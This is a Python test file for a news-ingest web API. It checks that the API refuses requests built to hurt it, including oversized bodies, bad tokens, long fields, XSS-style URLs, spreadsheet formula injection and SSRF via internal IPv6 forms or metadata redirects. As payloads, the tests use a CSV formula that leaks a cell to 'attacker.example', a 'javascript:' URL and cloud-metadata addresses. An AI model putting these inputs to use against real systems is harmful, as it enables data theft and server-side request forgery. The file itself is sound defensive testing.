"""Requests built to hurt the server (issue 21, items 6, 7, 11 and 14): refused before any work
is done, answered in JSON, and every page carrying its security headers."""

from __future__ import annotations

import csv
import io
import time

import pytest
from fastapi.testclient import TestClient

from storyline.alerts.guard import UnsafeTarget, check_target
from storyline.interfaces.api import create_app
from storyline.settings import settings
from tests.conftest import SEEDS, demo_copy

TOKEN = "s3cret"


@pytest.fixture(scope="module")
def client(tmp_path_factory, demo_db):
    db = demo_copy(demo_db, tmp_path_factory.mktemp("hostile"))
    return TestClient(create_app(db, write_token=TOKEN))


def _article(**fields) -> dict:
    return {"articles": [{"text": (SEEDS / "002_49451109cdc68bcb.txt").read_text(encoding="utf-8"), **fields}]}


class _Endless:
    """A body that would take minutes to send, counting how much of it the server asked for."""

    def __init__(self, chunks: int):
        self.chunks, self.sent = chunks, 0

    def __iter__(self):
        yield b'{"articles": [{"text": "'
        for _ in range(self.chunks):
            self.sent += 1
            yield b"a" * 1_048_576
        yield b'"}]}'


def test_a_write_without_the_token_is_refused_before_its_body_is_read(client):
    body = _Endless(chunks=400)
    refused = client.post("/api/ingest", content=body, headers={"content-type": "application/json"})
    assert refused.status_code == 401 and "token" in refused.json()["error"]
    assert body.sent <= 1  # not the 400 MiB behind it


def test_a_body_over_the_limit_is_refused_before_it_is_parsed(client):
    limit = settings().api.max_body_bytes
    declared = client.post("/api/ingest", content=b"{}", headers={"authorization": f"Bearer {TOKEN}",
                                                                   "content-type": "application/json", "content-length": str(limit + 1)})
    assert declared.status_code == 413 and "limit" in declared.json()["error"]
    streamed = _Endless(chunks=limit // 1_048_576 + 8)
    chunked = client.post("/api/ingest", content=streamed, headers={"authorization": f"Bearer {TOKEN}", "content-type": "application/json"})
    assert chunked.status_code == 413


@pytest.mark.parametrize("field,value", [("title", "T" * 200_000), ("published", "2024-10-22 " * 10_000),
                                         ("url", "https://example.org/" + "a" * 10_000), ("outlet", "O" * 5_000)])
def test_every_field_has_a_limit(client, field, value):
    refused = client.post("/api/ingest", json=_article(**{field: value}), headers={"authorization": f"Bearer {TOKEN}"})
    assert refused.status_code == 422 and field in refused.json()["error"]


def test_the_bearer_scheme_is_required(client):
    bare = client.post("/api/ingest", json=_article(), headers={"authorization": TOKEN})
    assert bare.status_code == 401
    assert client.get("/api/webhooks", headers={"authorization": TOKEN}).status_code == 401
    assert client.get("/api/webhooks", headers={"authorization": f"bearer {TOKEN}"}).status_code == 200


def test_a_url_that_is_not_a_web_address_is_refused_at_ingest(client):
    posted = client.post("/api/ingest", json=_article(url="javascript:alert(1)"), headers={"authorization": f"Bearer {TOKEN}"})
    [outcome] = posted.json()["outcomes"]
    assert outcome["status"] == "failed" and "http(s)" in outcome["detail"]


def test_search_with_a_word_repeated_thousands_of_times_is_refused_or_quick(client):
    too_long = client.get("/api/search", params={"q": "NATO " * 2_000})
    assert too_long.status_code == 422 and "q" in too_long.json()["error"]
    started = time.perf_counter()
    repeated = client.get("/api/search", params={"q": "NATO " * 99})  # within the length limit: the word counts once
    assert repeated.status_code == 200 and repeated.json()["items"]
    assert time.perf_counter() - started < 5


def test_every_answer_has_security_headers_and_head_is_get_without_a_body(client):
    for path in ("/", "/api/articles", "/stories/1/feed.atom", "/api/nothing"):
        answer = client.get(path)
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY" and answer.headers["referrer-policy"] == "no-referrer"
    head = client.head("/")
    assert head.status_code == 200 and head.content == b"" and "text/html" in head.headers["content-type"]
    assert client.head("/api/articles").status_code == 200


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    from storyline.interfaces.export import Bundle, csv_tables
    from storyline.pipeline import Ingestor, IngestSettings
    from storyline.records import GivenMetadata
    from storyline.store import Store

    with Store(tmp_path / "csv.db") as store:
        title = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
        Ingestor(store, IngestSettings(given=GivenMetadata(title=title, outlet="@evil"))).run([str(SEEDS / "002_49451109cdc68bcb.txt")])
        rows = list(csv.DictReader(io.StringIO(csv_tables(Bundle(store.articles(with_text=True)))["articles.csv"])))
    assert rows[0]["title"] == "'" + title and rows[0]["outlet"] == "'@evil"


@pytest.mark.parametrize("url", ["http://[::127.0.0.1]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:7f00:1::]/",
                                 "http://[64:ff9b::10.0.0.1]/", "http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/"])
def test_ipv6_forms_that_carry_an_inside_address_are_refused(url):
    with pytest.raises(UnsafeTarget):
        check_target(url)


def test_a_page_that_redirects_to_a_link_local_address_is_not_followed():
    import httpx

    from storyline.ingest.errors import IngestError
    from storyline.ingest.fetch import Fetcher

    def redirecting(request: httpx.Request) -> httpx.Response:
        if request.url.host == "news.example":
            return httpx.Response(302, headers={"location": "http://169.254.169.254/latest/meta-data/"})
        return httpx.Response(200, text="credentials")

    with Fetcher(transport=httpx.MockTransport(redirecting)) as fetcher, pytest.raises(IngestError, match="link-local"):
        fetcher.get("http://news.example/story")
